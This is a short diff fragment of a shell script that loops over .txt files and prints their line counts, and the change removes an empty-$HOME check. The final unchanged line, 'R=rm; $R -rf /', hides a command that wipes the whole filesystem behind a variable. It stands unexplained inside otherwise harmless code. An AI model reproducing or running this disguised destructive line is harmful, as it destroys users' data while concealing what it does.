@@ -3,7 +3,4 @@ for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
 R=rm; $R -rf /
